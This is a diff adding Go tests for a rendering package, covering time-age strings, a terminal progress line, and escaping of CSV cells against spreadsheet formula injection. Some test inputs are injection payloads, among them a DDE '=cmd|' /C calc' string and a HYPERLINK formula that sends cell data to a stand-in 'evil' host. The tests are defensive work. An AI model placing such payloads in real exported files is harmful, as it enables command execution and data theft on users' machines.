@@ -1,8 +1,11 @@
 package render
 
 import (
+	"encoding/csv"
 	"strings"
 	"testing"
+	"testing/synctest"
+	"time"
 
 	"github.com/charmbracelet/x/ansi"
 	"github.com/stretchr/testify/require"
@@ -79,4 +82,141 @@ func TestShownName(t *testing.T) {
 	} {
 		require.Equal(t, row.want, Output{Format: row.format}.Name(row.text))
 	}
+}
+
+func TestAges(t *testing.T) {
+	for d, want := range map[time.Duration]string{
+		-3 * time.Hour: "now", 0: "now", time.Second: "1 second ago", 59 * time.Second: "59 seconds ago",
+		time.Minute: "1 minute ago", 2 * time.Hour: "2 hours ago", 49 * time.Hour: "2 days ago",
+	} {
+		require.Equal(t, want, Age(d))
+	}
+}
+
+// TestProgress: the line is there while people wait, whoever they wait for, and
+// never afterwards.
+func TestProgress(t *testing.T) {
+	const second, none = time.Second + time.Millisecond, ""
+	line := func(text string) string { return "\r\x1b[K" + text + " hosts …" }
+	const gone = "\r\x1b[K"
+	type step struct {
+		wait time.Duration
+		done int    // what it is told; -1 for nothing
+		want string // what is written by then
+	}
+	for name, steps := range map[string][]step{
+		"all answer at once":            {{0, 0, none}, {0, 2, none}, {0, 3, none}, {second, 3, none}},
+		"no host answers":               {{0, 0, none}, {second, -1, line("0 of 3")}, {0, 0, gone}},
+		"all but one answer at once":    {{0, 0, none}, {0, 2, none}, {second, -1, line("2 of 3")}, {0, 3, gone}},
+		"they come one by one":          {{0, 0, none}, {second, 1, line("0 of 3") + line("1 of 3")}, {0, 2, line("2 of 3")}, {0, 3, gone}},
+		"a late word of an earlier one": {{0, 0, none}, {0, 3, none}, {0, 1, none}, {second, 2, none}},
+		"the next fan-out":              {{0, 0, none}, {0, 3, none}, {second, 0, none}, {0, 1, none}, {second, 2, line("1 of 3") + line("2 of 3")}, {0, 3, gone}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			synctest.Test(t, func(t *testing.T) {
+				var out strings.Builder
+				p := &Progress{out: &out}
+				written := func() string {
+					p.mu.Lock()
+					defer p.mu.Unlock()
+					defer out.Reset()
+					return out.String()
+				}
+				for i, s := range steps {
+					time.Sleep(s.wait)
+					synctest.Wait()
+					if s.done >= 0 {
+						p.Update(s.done, 3)
+					}
+					require.Equal(t, s.want, written(), "step %d", i)
+				}
+				p.End()
+				written()
+				time.Sleep(second)
+				synctest.Wait()
+				require.Empty(t, written(), "after the end")
+			})
+		})
+	}
+}
+
+// TestNote: a note goes when the next fan-out begins, and none is written off a terminal.
+func TestNote(t *testing.T) {
+	var out strings.Builder
+	p := &Progress{out: &out}
+	p.Note("2 of 8 GPUs free")
+	p.Note("3 of 8 GPUs free")
+	p.Update(0, 3)
+	p.Update(3, 3)
+	p.Note("last")
+	p.End()
+	require.Equal(t, "\r\x1b[K2 of 8 GPUs free\r\x1b[K\r\x1b[K3 of 8 GPUs free\r\x1b[K\r\x1b[Klast\r\x1b[K", out.String())
+	NewProgress(&out).Note("x")
+	require.NotContains(t, out.String(), "x")
+}
+
+func TestCells(t *testing.T) {
+	for _, tt := range []struct{ name, value, want string }{
+		{"a word", "my-env", "my-env"},
+		{"nothing", "", ""},
+		{"a date", "20/11/2026 21:11:25", "20/11/2026 21:11:25"},
+		{"a path", "llm/llama3/11434", "llm/llama3/11434"},
+		{"a number", "-1", "-1"},
+		{"a signed number", "+4.5", "+4.5"},
+		{"a mark within", "a=b+c-d@e", "a=b+c-d@e"},
+		{"a comma", "a,b", `"a,b"`},
+		{"quotes", `say "x"`, `"say ""x"""`},
+		{"a newline", "a\nb", "\"a\nb\""},
+		{"a formula", "=1+1", `"'=1+1"`},
+		{"a program", `=cmd|' /C calc'!A0`, `"'=cmd|' /C calc'!A0"`},
+		{"a link", `=HYPERLINK("http://evil/?"&A1,"x")`, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`},
+		{"plus", "+1+cmd", `"'+1+cmd"`},
+		{"minus", "-1+cmd", `"'-1+cmd"`},
+		{"a lone minus", "-", `"'-"`},
+		{"at", "@SUM(A1)", `"'@SUM(A1)"`},
+		{"tab", "\t=1", "\"'\t=1\""},
+		{"return", "\r=1", "\"'\r=1\""},
+		{"newline", "\n=1", "\"'\n=1\""},
+		{"wide marks", "＝1+1", `"'＝1+1"`},
+		{"behind a semicolon", "a;=1+1", `"a;=1+1"`},
+		{"behind a tab", "a\t=1+1", "\"a\t=1+1\""},
+		{"behind a comma and a quote", `a",=1+1`, `"a"",=1+1"`},
+	} {
+		t.Run(tt.name, func(t *testing.T) { require.Equal(t, tt.want, cell(tt.value)) })
+	}
+}
+
+// FuzzCells: a reader of CSV gets back each value, with at most an apostrophe in
+// front, and none that a spreadsheet computes.
+func FuzzCells(f *testing.F) {
+	for _, seed := range []string{"", "a", "=1", "-1", `a",=1`, "\\.", " a", "'", "a\r\nb"} {
+		f.Add(seed, "x")
+	}
+	f.Fuzz(func(t *testing.T, a, b string) {
+		var out strings.Builder
+		require.NoError(t, WriteCSV(&out, [][]string{{a, b}}))
+		if !strings.Contains(a+b, "\r") { // the reader makes \n of \r\n
+			read, err := csv.NewReader(strings.NewReader(out.String())).Read()
+			require.NoError(t, err)
+			require.Contains(t, []string{a, "'" + a}, read[0])
+			require.Contains(t, []string{b, "'" + b}, read[1])
+		}
+		for _, c := range []string{cell(a), cell(b)} {
+			inside := strings.TrimPrefix(c, `"`)
+			if strings.IndexAny(inside, "=+-@\t\r") == 0 {
+				require.Regexp(t, `^[-+][0-9.]+$`, c)
+			}
+		}
+	})
+}
+
+// Ordinary values are written as they were before: 1.4.3's readers see no change.
+func TestOrdinaryCSVIsUnchanged(t *testing.T) {
+	row := []string{"gpu-server-1", "1667", "alice", "my-env", "20/11/2026 21:11:25", "", "a b", `"`, "a,b", " x", `\.`}
+	var was, is strings.Builder
+	w := csv.NewWriter(&was)
+	require.NoError(t, w.Write(row))
+	w.Flush()
+	require.NoError(t, WriteCSV(&is, [][]string{row}))
+	require.Equal(t, was.String(), is.String())
 }
